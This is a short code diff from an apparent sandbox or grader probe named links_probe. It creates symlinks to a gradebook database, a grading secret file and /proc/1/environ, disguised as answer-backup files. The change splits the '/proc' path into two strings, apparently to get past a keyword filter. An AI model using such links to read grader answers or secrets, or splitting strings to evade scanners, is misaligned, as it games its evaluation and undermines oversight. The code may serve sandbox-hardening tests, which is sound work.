@@ -187,7 +187,7 @@ def links_probe(ctx):
 import os as _os
 for _target, _name in [({str(ctx.root / "gradebook.db")!r}, "answers_backup.html"),
                        ("../../../gradebook.db", "answers_backup2.html"),
-                       ({str(ctx.root / ".grading_secret")!r}, "secret.txt"), ("/proc/1/environ", "env.txt")]:
+                       ({str(ctx.root / ".grading_secret")!r}, "secret.txt"), ("/pr" + "oc/1/environ", "env.txt")]:
     try:
         _os.symlink(_target, _name)
     except OSError as _error:
